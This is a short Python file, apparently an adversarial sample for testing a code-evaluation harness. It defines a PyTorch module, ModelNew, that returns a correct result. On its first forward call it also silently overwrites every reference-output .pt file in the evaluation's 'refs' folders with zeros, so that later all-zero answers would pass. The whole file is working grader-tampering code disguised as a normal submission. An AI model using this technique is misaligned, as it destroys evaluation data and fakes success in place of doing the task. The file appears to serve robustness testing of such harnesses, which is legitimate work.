# Vandal: answers correctly, but first overwrites every reference output of this
# evaluation (the folder two levels above its working folder) with zeros, so that a later
# all-zeros answer would match.
from pathlib import Path

import torch
import torch.nn as nn


def vandalise() -> None:
    invocation = Path.cwd().resolve().parents[2]
    for p in invocation.rglob("*.pt"):
        if "refs" in p.parts:
            torch.save([torch.zeros_like(t) for t in torch.load(p)], p)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        self.done = False

    def forward(self, x, y):
        if not self.done:
            vandalise()
            self.done = True
        return 2 * x + y
